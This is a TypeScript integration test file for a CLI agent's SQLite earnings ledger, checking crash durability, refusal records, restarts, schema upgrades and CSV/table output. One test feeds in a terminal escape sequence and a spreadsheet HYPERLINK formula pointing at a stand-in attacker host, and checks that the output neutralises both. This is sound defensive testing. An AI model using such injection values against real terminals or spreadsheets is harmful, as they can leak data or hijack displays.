import type { ChildProcess } from 'node:child_process';
import { existsSync } from 'node:fs';
import { mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import type { TestCoordinator, VllmEmulator } from '@usepod-agent/testkit';
import Database from 'better-sqlite3';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { homeEnv, runAgent, cli as runCli, type Scratch, scratch } from './cli.js';

/**
 * The operator's ledger (issue 18), through the real CLI and a real SQLite file: every job received is a
 * row, refusals too; a SIGKILL under load loses no job the coordinator saw end; counters resume after a
 * restart; `earnings` sums it. What needs no CLI (a locked, failing or newer ledger, the SQL sums) is
 * tested in packages/plugin-ledger.
 */

let dir: string;
let coordinator: TestCoordinator;
let engine: VllmEmulator;
let children: ChildProcess[];

let s: Scratch;
beforeEach(async () => {
  s = await scratch('usepod-ledger-', { tokenDelayMs: 1, defaultTokens: 8 });
  ({ dir, coordinator, engine, children } = s);
});
afterEach(() => s.close());

const env = () => homeEnv(dir);

async function config(extra = ''): Promise<string> {
  const path = join(dir, 'agent.toml');
  await writeFile(
    path,
    `[coordinator]\nurl = "${coordinator.url}"\n[identity]\nkey_path = "${join(dir, 'id', 'identity.key')}"\n[[backends]]\nkind = "vllm"\nurl = "${engine.url}"\n[observability]\nprometheus_addr = "127.0.0.1:0"\n${extra}`,
  );
  return path;
}

/** `usepod-agent run` in its own process; resolves once it is authenticated and has advertised. */
const run = (cfg: string) => runAgent(cfg, { env: env(), cwd: dir, coordinator, children });

const cli = (args: string[]) => runCli(args, { env: env(), cwd: dir });

const ledgerFile = () => join(dir, 'id', 'ledger.db');

describe('the ledger', () => {
  it('loses no job the coordinator saw end when the agent is killed with SIGKILL under load', async () => {
    const cfg = await config('[limits]\nmax_concurrent = 16\n');
    const a = await run(cfg);
    const dispatched = new Set<string>();
    const ended = new Set<string>();
    let stop = false;
    // Killed once 60 jobs ended (not after a time: the machine may be busy), with 12 more in flight.
    let enough!: () => void;
    const sixty = new Promise<void>((r) => {
      enough = r;
    });
    const lane = async () => {
      while (!stop) {
        const job = a.session.dispatch({ model_id: 'Qwen/Qwen3-14B' });
        dispatched.add(job.jobId);
        const end = await Promise.race([job.done(), a.session.closed.then(() => undefined)]);
        if (!end) return;
        ended.add(job.jobId);
        if (ended.size >= 60) enough();
      }
    };
    const lanes = Array.from({ length: 12 }, lane);
    await sixty;
    a.child.kill('SIGKILL');
    stop = true;
    await a.exited;
    await Promise.all(lanes);
    expect(ended.size).toBeGreaterThan(50);
    const db = new Database(ledgerFile());
    const ids = new Set(
      (db.prepare('SELECT job_id FROM jobs').all() as { job_id: string }[]).map((r) => r.job_id),
    );
    db.close();
    const lost = [...ended].filter((id) => !ids.has(id));
    expect(lost).toEqual([]);
    for (const id of ids) expect(dispatched.has(id)).toBe(true);
  }, 60_000);

  it('records refusals as missed jobs, resumes the counters after a restart, and `earnings` sums it', async () => {
    const cfg = await config('[limits]\nmax_concurrent = 1\n');
    const a = await run(cfg);
    engine.behave({ kind: 'controlled' }, { times: 1 });
    const held = a.session.dispatch({ model_id: 'Qwen/Qwen3-14B' });
    const stream = await engine.controlled.waitFor();
    expect(await a.session.dispatch({ model_id: 'Qwen/Qwen3-14B' }).done()).toMatchObject({
      error_code: 'out_of_capacity',
    });
    stream.end(
      'data: {"choices":[{"delta":{"content":"hi"},"finish_reason":"stop"}],"usage":{"prompt_tokens":10,"completion_tokens":20,"total_tokens":30}}\n\ndata: [DONE]\n\n',
    );
    expect((await held.done()).type).toBe('job_done');
    expect(await a.session.dispatch({ model_id: 'nope' }).done()).toMatchObject({
      error_code: 'model_not_loaded',
    });
    for (let i = 0; i < 2; i++)
      expect((await a.session.dispatch({ model_id: 'Qwen/Qwen3-14B' }).done()).type).toBe('job_done');
    a.child.kill('SIGTERM');
    expect(await a.exited).toBe(0);

    const db = new Database(ledgerFile(), { readonly: true });
    expect(
      db.prepare('SELECT refusal, count(*) AS n FROM jobs GROUP BY refusal ORDER BY refusal').all(),
    ).toEqual([
      { refusal: null, n: 3 },
      { refusal: 'max_concurrent', n: 1 },
      { refusal: 'model_not_loaded', n: 1 },
    ]);
    db.close();
    const json = await cli(['earnings', '--config', cfg, '--since', '1h', '--json']);
    expect(json.code, json.stderr).toBe(0);
    const doc = JSON.parse(json.stdout) as { rows: Record<string, unknown>[] };
    const qwen = doc.rows.find((r) => r.group === 'Qwen/Qwen3-14B')!;
    expect(qwen).toMatchObject({ served: 3, missed: 1, failed: 0 });
    expect(qwen.earnings_usdc as number).toBeGreaterThan(0);
    expect(doc.rows.find((r) => r.group === 'nope')).toMatchObject({ served: 0, missed: 1 });
    const csv = await cli(['earnings', '--config', cfg, '--since', '1h', '--csv', '--by', 'backend']);
    expect(csv.stdout.split('\n')[0]).toBe(
      'group,served,failed,missed,cancelled,input_tokens,output_tokens,earnings_usdc,tokens_per_sec,busy',
    );
    const table = await cli(['earnings', '--config', cfg, '--by', 'day']);
    expect(table.stdout).toMatch(/^total\s+3\s+0\s+2\s/m);
    const bad = await cli(['earnings', '--config', cfg, '--since', 'yesterdayish']);
    expect(bad.code).toBe(2);
    expect(bad.stderr).toMatch(/^usepod-agent: --since yesterdayish is not a duration or a date/);

    // A restart: Prometheus' totals go on from the ledger before any new job.
    const b = await run(cfg);
    const port = /metrics and status served url=http:\/\/127\.0\.0\.1:(\d+)\/metrics/.exec(b.stderr())![1];
    const metrics = await (await fetch(`http://127.0.0.1:${port}/metrics`)).text();
    const sum = (re: RegExp) =>
      metrics
        .split('\n')
        .filter((l) => re.test(l))
        .reduce((n, l) => n + Number(l.split(' ').at(-1)), 0);
    expect(sum(/^usepod_agent_jobs_total\{.*outcome="done"/)).toBe(3);
    expect(sum(/^usepod_agent_jobs_total\{.*error_code="out_of_capacity"/)).toBe(1);
    expect(sum(/^usepod_agent_earnings_micro_usdc_total\{/)).toBeGreaterThan(0);
    // `status` adds today and the last 7 days from the ledger to what the live agent says.
    const status = await cli(['status', '--config', cfg, '--addr', `127.0.0.1:${port}`]);
    expect(status.stdout).toMatch(/^ {2}today {9}\d+\.\d{6} USDC \(3 served, 2 missed, 0 failed\)$/m);
    expect(status.stdout).toMatch(/^ {2}last 7 days {3}\d+\.\d{6} USDC \(3 served, 2 missed, 0 failed\)/m);
    const statusJson = JSON.parse(
      (await cli(['status', '--config', cfg, '--addr', `127.0.0.1:${port}`, '--json'])).stdout,
    );
    expect(statusJson.sections.ledger.today).toMatchObject({ served: 3, missed: 2 });
    b.child.kill('SIGTERM');
    await b.exited;
  }, 60_000);

  it('upgrades a ledger an older agent wrote, keeping its rows', async () => {
    const cfg = await config();
    await mkdir(join(dir, 'id'), { recursive: true });
    // Schema 1, as the first ledger-keeping agent wrote it: no refusal column.
    const old = new Database(ledgerFile());
    old.exec(
      `CREATE TABLE jobs (job_id TEXT NOT NULL, model TEXT NOT NULL, backend TEXT, format TEXT NOT NULL,
         received_at INTEGER NOT NULL, first_byte_ms INTEGER, duration_ms INTEGER NOT NULL, outcome TEXT NOT NULL,
         error_code TEXT, input_tokens INTEGER NOT NULL, output_tokens INTEGER NOT NULL, bytes INTEGER NOT NULL,
         input_per_1m INTEGER, output_per_1m INTEGER, earnings_micro REAL NOT NULL);
       CREATE INDEX jobs_received_at ON jobs (received_at);
       INSERT INTO jobs VALUES ('old-1', 'm', 'vllm', 'openai', ${Date.now() - 1000}, 5, 50, 'done', NULL, 1, 2, 3, 10, 20, 0.00005);
       PRAGMA user_version = 1;`,
    );
    old.close();
    const a = await run(cfg);
    // The coordinator names the model: an id carrying a terminal escape is stored as sent, shown folded.
    const hostile = 'nope\u001b[2J\u001b]0;owned\u0007';
    expect((await a.session.dispatch({ model_id: hostile }).done()).type).toBe('job_error');
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"click")';
    expect((await a.session.dispatch({ model_id: formula }).done()).type).toBe('job_error');
    a.child.kill('SIGTERM');
    await a.exited;
    const table = await cli(['earnings', '--config', cfg, '--since', '1h']);
    expect(table.stdout).toMatch(/^nope \[2J \]0;owned\s/m);
    // biome-ignore lint/suspicious/noControlCharactersInRegex: what must not reach the terminal
    expect(table.stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f]/);
    // In CSV a cell a spreadsheet would run as a formula is written as text.
    const csv = await cli(['earnings', '--config', cfg, '--since', '1h', '--csv', '--by', 'model']);
    expect(csv.stdout).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
    expect(csv.stdout).not.toMatch(/^"?=/m);
    const db = new Database(ledgerFile(), { readonly: true });
    expect(db.pragma('user_version', { simple: true })).toBe(4);
    // The old row is in the quarter-hour summaries `earnings` reads (backfilled once).
    expect(db.prepare("SELECT sum(served) FROM job_sums WHERE model = 'm'").pluck().get()).toBe(1);
    expect(db.prepare('SELECT job_id, refusal FROM jobs ORDER BY received_at').all()).toEqual([
      { job_id: 'old-1', refusal: null },
      { job_id: expect.any(String), refusal: 'model_not_loaded' },
      { job_id: expect.any(String), refusal: 'model_not_loaded' },
    ]);
    db.close();
  }, 60_000);

  it('keeps none when [ledger] path = "off"; `earnings` says when there is none yet', async () => {
    const fresh = await cli(['earnings', '--config', await config()]);
    expect(fresh.stdout).toMatch(
      /^No ledger yet at .*ledger\.db: `usepod-agent run` writes it as jobs arrive\.$/m,
    );
    const cfg = await config('[ledger]\npath = "off"\n');
    const a = await run(cfg);
    expect((await a.session.dispatch({ model_id: 'Qwen/Qwen3-14B' }).done()).type).toBe('job_done');
    a.child.kill('SIGTERM');
    await a.exited;
    expect(existsSync(ledgerFile())).toBe(false);
  }, 60_000);
});
